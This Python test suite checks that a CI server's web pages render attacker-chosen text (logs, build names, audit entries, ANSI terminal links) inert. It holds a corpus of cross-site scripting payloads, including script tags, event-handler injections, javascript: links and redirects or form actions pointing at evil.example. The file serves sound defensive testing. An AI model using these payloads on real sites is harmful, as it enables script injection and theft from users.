"""Texts that others write never become anything but text: logs (T13), names and messages (T14)."""

from __future__ import annotations

import re
from collections.abc import AsyncIterator
from pathlib import Path
from urllib.parse import quote

import pytest
from hypothesis import given
from hypothesis import strategies as st
from playwright.async_api import Dialog, async_playwright

from ci.errors import Problem
from ci.server.account import Account
from ci.server.auth import Actor
from ci.server.store import audit
from ci.server.store.sessions import Browser
from ci.server.store.tokens import NewToken
from ci.status import Outcome, Status
from tests.browser.conftest import CHROMIUM, sign_in
from tests.scene import Done, Scene
from tests.walk import entries, path_of
from web import ansi

_CLASSES = re.compile(r"(a-(bold|dim|italic|underline|strike|inverse)|[fb]g\d{1,3})( |$)")
_PIECES = [
    b"\x1b]8;;javascript:alert(1)\x07x\x1b]8;;\x07",
    b"\x1b]8;;data:text/html,x\x1b\\",
    b"\x1b]8;;HTTPS://ok.example\x07",
    b'\x1b]8;;https://ok.example/a"onclick=1\x07',
    b"\x1b]52;c;YQ==\x07",
    b"\x1bP1;2q\x1b\\",
    b"\x1b[1;31m",
    b"\x1b[38;2;1;2;3m",
    b"\x1b[999999999999m",
    b"\x1b[;;;;m",
    b"<script>alert(1)</script>",
    b"\r",
    b"\x00",
    b"\xff\xfe",
    b"text",
]


@given(st.lists(st.one_of(st.sampled_from(_PIECES), st.binary(max_size=20)), max_size=30))
def test_ansi_dom(pieces: list[bytes]) -> None:
    """Any bytes become runs of text with classes that we know, and links to http and https alone."""
    runs, _ = ansi.runs(b"".join(pieces).replace(b"\n", b""))
    for run in runs:
        assert not re.search(r"[\x00-\x08\x0b-\x1f\x7f-\x9f]", run.text)
        assert _CLASSES.sub("", run.classes) == "", run.classes
        assert run.link == "" or run.link.startswith(("http://", "https://"))


PAYLOADS = (
    "<b data-xss>x</b>",
    "<script>window.xss = 1; alert(1)</script>",
    "<img src=x onerror=alert(2)>",
    "'\"><svg onload=alert(3)>",
    '" autofocus onfocus=alert(4) x="',
    "' onmouseover=alert(5) '",
    "</title><script>alert(6)</script>",
    "</textarea><script>alert(7)</script>",
    "</script><script>alert(8)</script>",
    "<!--<script>alert(9)",
    "<iframe srcdoc='<script>alert(10)</script>'>",
    '<a href="javascript:alert(11)" data-xss>x</a>',
    "javascript:alert(12)",
    "{{ 7 * 191 }}{% raw %}",
    "${alert(13)}`${alert(14)}`",
    '<math><mi xlink:href="data:x,<script>alert(15)</script>">',
    "<style>@import'//evil.example'</style>",
    "<base href=//evil.example/><form action=//evil.example data-xss>",
    "<meta http-equiv=refresh content=0;url=//evil.example>",
    "&lt;script&gt;&#60;b data-xss&#62;",
    "\u202e\u2066<b data-xss>\u2028",
)
EVERY = " ".join(PAYLOADS)
SLUG = '"><img src=x onerror=alert(16)>'


@pytest.fixture
async def hostile(tmp_path: Path) -> AsyncIterator[Scene]:
    """A server whose every text that somebody may choose is an attack."""
    scene = Scene(tmp_path)
    await scene.open()
    await scene.user("ada")
    repo = await scene.repo("ada", "app")
    scene.runner_id = await scene.runner(EVERY, labels={EVERY: EVERY}, engine=EVERY)
    step = Done(
        name=SLUG,
        status="failure",
        outcome=Outcome.EXIT.value,
        exit_code=1,
        reason=EVERY,
        image=EVERY,
        commands=PAYLOADS,
        log="".join(
            f"error: {text}\n\x1b]8;;javascript:alert(17)\x07l\x1b]8;;\x07\n" for text in PAYLOADS
        ).encode(),
    )
    texts = {"title": EVERY, "author": EVERY, "sender": EVERY, "branch": EVERY, "ref": f"refs/heads/{EVERY}"}
    await scene.build(repo, [(SLUG, [step])], matrix=[{EVERY: EVERY}], **texts)
    await scene.build(
        repo,
        [],
        status="error",
        new_build={
            "status": Status.ERROR,
            "outcome": Outcome.CONFIG,
            "reason": EVERY,
            "config_file": ".ci.yml",
            "config": EVERY,
            "problems": (Problem(message=EVERY, line=1, column=2),),
        },
        **texts,
    )
    running = Done(name=SLUG, status="running", log=EVERY.encode() + b"\n", is_open=True)
    await scene.build(repo, [(SLUG, [running])], **texts)
    await scene.delivery(repo, EVERY, ref=EVERY)
    now = scene.clock.now()
    account = Account(scene.store, scene.bus, scene.clock)
    ada = Actor(user_id=1, name="ada", is_admin=True, address=EVERY)
    await account.open_session(ada, 9999.0, Browser(address=EVERY, software=EVERY))
    await account.add_token(ada, NewToken(name=EVERY[:100]))
    deed = audit.Deed(action=EVERY, object=EVERY, details=EVERY, repo_id=repo)
    await scene.store.write(lambda c: audit.note(c, Actor(name=EVERY), deed, now))
    yield scene
    await scene.close()


@pytest.mark.browser
async def test_xss_corpus(hostile: Scene) -> None:
    """Every page that a browser can open: no dialog, no complaint of the page's own policy, no element that
    a text has made."""
    wrong: list[str] = []

    async def dismiss(dialog: Dialog) -> None:
        wrong.append(f"a dialog: {dialog.message}")
        await dialog.dismiss()

    async with hostile.serving() as site, async_playwright() as playwright:
        browser = await playwright.chromium.launch(executable_path=CHROMIUM, args=["--no-sandbox"])
        context = await browser.new_context()
        await sign_in(context, site)
        page = await context.new_page()
        page.on("dialog", dismiss)
        page.on("pageerror", lambda error: wrong.append(str(error)))
        page.on(
            "console",
            lambda message: wrong.append(message.text) if "Content Security Policy" in message.text else None,
        )
        seen = 0
        for path in _paths():
            answer = await page.goto(site + path, wait_until="load")
            assert answer is not None and answer.status < 500, path
            seen += "data-xss" in await answer.text()
            made = await page.evaluate(
                "[document.querySelectorAll('[data-xss], base, iframe, [onerror], [onload]').length,"
                " window.xss ?? 0, location.origin]"
            )
            assert made == [0, 0, site], path
            assert wrong == [], path
        assert seen >= 8, "the texts are on the pages"
        await browser.close()


def _paths() -> list[str]:
    """All pages; addresses whose answers are downloads or data are the browser's own to show."""
    slug = quote(SLUG, safe="")
    found = []
    for entry in entries():
        is_page = entry.kind == "page" and entry.methods == ("GET",)
        is_data = entry.path.startswith(("/api/", "/metrics", "/cc.xml")) or entry.path.endswith(
            ("/raw", "/index", ".svg")
        )
        if is_page and not is_data:
            for number in ("1", "2", "3") if "{number" in entry.path else ("1",):
                found.append(path_of(entry, number=number, job=slug, step=slug))
    return [*found, f"/?q={quote(EVERY)}", f"/sign-in?next={quote(EVERY)}", f"/admin/audit?q={quote(EVERY)}"]
